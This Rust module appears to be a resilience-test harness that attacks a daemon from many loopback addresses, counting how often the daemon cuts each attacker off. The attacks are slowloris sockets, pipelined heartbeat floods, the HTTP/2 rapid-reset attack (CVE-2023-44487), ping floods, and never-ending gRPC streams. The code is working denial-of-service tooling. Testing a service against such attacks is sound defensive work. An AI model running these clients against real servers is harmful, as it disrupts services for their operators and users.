//! Clients that mean harm, all at once: thousands that are slow in every way, instances that flood, HTTP/2 that asks and
//! takes back, HTTP/2 that pings. They come from many addresses of the loopback network, each with its share.

use std::{
    net::{IpAddr, Ipv4Addr, SocketAddr},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time::{sleep, timeout},
};

/// How many of each there are.
#[derive(Clone, Copy, Debug)]
pub struct Crowd {
    /// Sockets that are slow.
    pub slow: usize,
    /// Connections that send heartbeats as fast as they are taken.
    pub flooding: usize,
    /// HTTP/2 connections whose requests are taken back at once.
    pub resetting: usize,
    /// HTTP/2 connections that send nothing but pings.
    pub pinging: usize,
    /// HTTP/2 connections full of streams that ask for no token, each with a large message that does not end.
    pub begun: usize,
}

/// What they did, and what was done to them.
#[derive(Debug, Default)]
pub struct Done {
    /// Slow sockets that were opened.
    pub slow_opened: AtomicU64,
    /// Slow sockets that the daemon closed.
    pub slow_closed: AtomicU64,
    /// Heartbeats that were answered, refusals included.
    pub heartbeats: AtomicU64,
    /// Requests that were sent and taken back.
    pub resets: AtomicU64,
    /// Connections that were cut for it.
    pub resetting_cut: AtomicU64,
    /// Streams that were begun.
    pub begun: AtomicU64,
    /// Streams of these that were ended.
    pub begun_ended: AtomicU64,
    /// Pings that were sent.
    pub pings: AtomicU64,
    /// Connections that were cut for it.
    pub pinging_cut: AtomicU64,
}

/// An attack under way; it ends when dropped.
pub struct Attack {
    done: Arc<Done>,
    _tasks: JoinSet<()>,
}

/// Slow sockets of one address.
const SLOW_PER_ADDRESS: usize = 100;
const PIPELINED: usize = 32;
/// Requests in one write of a connection that takes them back.
const RESETS_AT_ONCE: u32 = 100;
const PINGS_AT_ONCE: usize = 500;
/// Bytes of a message that is said to have four million.
const BEGUN_BYTES: usize = 64 * 1024;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

impl Attack {
    /// Begins.
    pub fn begin(on: SocketAddr, crowd: Crowd) -> Attack {
        let done = Arc::new(Done::default());
        let mut tasks = JoinSet::new();
        for number in 0..crowd.slow {
            tasks.spawn(slow(on, number, Arc::clone(&done)));
        }
        for number in 0..crowd.flooding {
            tasks.spawn(flood(on, number, Arc::clone(&done)));
        }
        for _ in 0..crowd.resetting {
            tasks.spawn(reset(on, Arc::clone(&done)));
        }
        for _ in 0..crowd.pinging {
            tasks.spawn(ping(on, Arc::clone(&done)));
        }
        for number in 0..crowd.begun {
            tasks.spawn(begin(on, number, Arc::clone(&done)));
        }
        Attack {
            done,
            _tasks: tasks,
        }
    }

    /// What has been done so far.
    pub fn done(&self) -> &Done {
        &self.done
    }
}

/// A connection from an address of its own network: `127.NETWORK.0.HOST`.
async fn connect(on: SocketAddr, network: u8, host: usize) -> Option<TcpStream> {
    let host = u8::try_from(host % 250).unwrap_or(0).saturating_add(1);
    let from = Ipv4Addr::new(127, network, 0, host);
    let socket = TcpSocket::new_v4().ok()?;
    socket.bind(SocketAddr::new(IpAddr::V4(from), 0)).ok()?;
    let stream = socket.connect(on).await.ok()?;
    stream.set_nodelay(true).ok()?;
    Some(stream)
}

/// Slow in one of five ways, and back again whenever it is closed.
async fn slow(on: SocketAddr, number: usize, done: Arc<Done>) {
    // Not all in the same moment.
    sleep(Duration::from_millis(
        u64::try_from(number % 2_000).unwrap_or(0),
    ))
    .await;
    loop {
        if let Some(stream) = connect(on, 1, number / SLOW_PER_ADDRESS).await {
            done.slow_opened.fetch_add(1, Ordering::Relaxed);
            linger(stream, number % 5).await;
            done.slow_closed.fetch_add(1, Ordering::Relaxed);
        }
        sleep(Duration::from_millis(500)).await;
    }
}

/// Until the daemon closes it.
async fn linger(mut stream: TcpStream, way: usize) {
    let (beginning, drip): (Vec<u8>, &[u8]) = match way {
        0 => (vec![], b""),
        1 => (b"GET /health/live HTTP/1.1\r\nhost: localhost\r\nx: ".to_vec(), b"y"),
        2 => (
            b"POST /api/configs/slow/prod HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n{".to_vec(),
            b" ",
        ),
        3 => (PREFACE.to_vec(), b""),
        _ => (
            b"GET /openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n".repeat(100),
            b"",
        ),
    };
    let _ = timeout(Duration::from_secs(1), stream.write_all(&beginning)).await;
    if way == 4 {
        // It reads nothing; that it was closed shows when it writes.
        loop {
            sleep(Duration::from_secs(2)).await;
            if stream
                .try_write(b"G")
                .is_err_and(|error| error.kind() != std::io::ErrorKind::WouldBlock)
            {
                return;
            }
        }
    }
    let mut buffer = [0; 1024];
    loop {
        match timeout(Duration::from_secs(2), stream.read(&mut buffer)).await {
            Ok(Ok(0) | Err(_)) => return,
            Ok(Ok(_)) => {}
            Err(_) if drip.is_empty() => {}
            Err(_) => {
                if stream.write_all(drip).await.is_err() {
                    return;
                }
            }
        }
    }
}

/// The same instance, again and again.
async fn flood(on: SocketAddr, number: usize, done: Arc<Done>) {
    let body = format!(
        r#"{{"instance_id":"noisy-{number}","app":"checkout","profile":"prod","version":"v1","seq":0}}"#
    );
    let one = format!(
        "POST /heartbeat HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    let many = one.repeat(PIPELINED);
    let mut buffer = vec![0; 256 * 1024];
    loop {
        let Some(mut stream) = connect(on, 2, number).await else {
            sleep(Duration::from_millis(100)).await;
            continue;
        };
        while stream.write_all(many.as_bytes()).await.is_ok() {
            let mut open = PIPELINED;
            while open > 0 {
                let Ok(length @ 1..) = stream.read(&mut buffer).await else {
                    break;
                };
                let read = buffer.get(..length).unwrap_or_default();
                let answers = read.windows(9).filter(|part| part == b"HTTP/1.1 ").count();
                open = open.saturating_sub(answers.max(1));
                let answers = u64::try_from(answers).unwrap_or(0);
                done.heartbeats.fetch_add(answers, Ordering::Relaxed);
            }
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = length.get(1..).unwrap_or_default().to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Asks for the list of rollouts, and takes it back: CVE-2023-44487.
async fn reset(on: SocketAddr, done: Arc<Done>) {
    const PATH: &[u8] = b"/api/rollouts";
    // HPACK: GET, http, and :path and :authority spelt out.
    let mut head = vec![0x82, 0x86, 0x04, 13];
    head.extend(PATH);
    head.extend([0x01, 6]);
    head.extend(b"vortex");
    loop {
        if let Some(mut stream) = connect(on, 3, 0).await {
            let mut next = 1_u32;
            let mut is_open = stream.write_all(PREFACE).await.is_ok();
            while is_open {
                let mut bytes = vec![];
                for _ in 0..RESETS_AT_ONCE {
                    bytes.extend(frame(1, 0x05, next, &head));
                    bytes.extend(frame(3, 0, next, &8_u32.to_be_bytes()));
                    next = next.saturating_add(2);
                }
                is_open = exchange(&mut stream, &bytes).await;
                done.resets
                    .fetch_add(u64::from(RESETS_AT_ONCE), Ordering::Relaxed);
            }
            done.resetting_cut.fetch_add(1, Ordering::Relaxed);
        }
        sleep(Duration::from_millis(20)).await;
    }
}

async fn ping(on: SocketAddr, done: Arc<Done>) {
    let bytes = frame(6, 0, 0, b"vortex!!").repeat(PINGS_AT_ONCE);
    loop {
        if let Some(mut stream) = connect(on, 4, 0).await {
            let mut is_open = stream.write_all(PREFACE).await.is_ok();
            while is_open {
                is_open = exchange(&mut stream, &bytes).await;
                let pings = u64::try_from(PINGS_AT_ONCE).unwrap_or(0);
                done.pings.fetch_add(pings, Ordering::Relaxed);
            }
            done.pinging_cut.fetch_add(1, Ordering::Relaxed);
        }
        sleep(Duration::from_millis(20)).await;
    }
}

/// Fills a connection with streams that are begun, and goes on with others as soon as some have ended.
async fn begin(on: SocketAddr, number: usize, done: Arc<Done>) {
    const PATHS: [&str; 2] = [
        "/grpc.health.v1.Health/Watch",
        "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
    ];
    loop {
        if let Some(stream) = connect(on, 5, number).await
            && let Ok((mut sender, connection)) = h2::client::handshake(stream).await
        {
            let mut tasks = JoinSet::new();
            tasks.spawn(async { drop(connection.await) });
            for path in PATHS.iter().cycle() {
                let request = http::Request::post(format!("http://localhost{path}"))
                    .header("content-type", "application/grpc");
                let Ok(request) = request.body(()) else { break };
                // It waits for room on the connection.
                let Ok(ready) = sender.ready().await else {
                    break;
                };
                sender = ready;
                let Ok((answer, mut body)) = sender.send_request(request, false) else {
                    break;
                };
                done.begun.fetch_add(1, Ordering::Relaxed);
                let mut part = vec![0];
                part.extend(4_000_000_u32.to_be_bytes());
                part.resize(BEGUN_BYTES, 7);
                let _ = body.send_data(part.into(), false);
                let done = Arc::clone(&done);
                tasks.spawn(async move {
                    if let Ok(answer) = answer.await {
                        let mut rest = answer.into_body();
                        while let Some(Ok(_)) = rest.data().await {}
                    }
                    done.begun_ended.fetch_add(1, Ordering::Relaxed);
                    drop(body);
                });
                // More of them would only keep the attackers busy.
                sleep(Duration::from_millis(2)).await;
            }
        }
        sleep(Duration::from_millis(100)).await;
    }
}

/// Sends, and reads whatever is there; whether it is still open.
async fn exchange(stream: &mut TcpStream, bytes: &[u8]) -> bool {
    let sent = timeout(Duration::from_secs(2), stream.write_all(bytes)).await;
    if !matches!(sent, Ok(Ok(()))) {
        return false;
    }
    let mut buffer = [0; 64 * 1024];
    loop {
        match stream.try_read(&mut buffer) {
            Ok(0) => return false,
            Ok(_) => {}
            Err(error) => {
                tokio::task::yield_now().await;
                return error.kind() == std::io::ErrorKind::WouldBlock;
            }
        }
    }
}
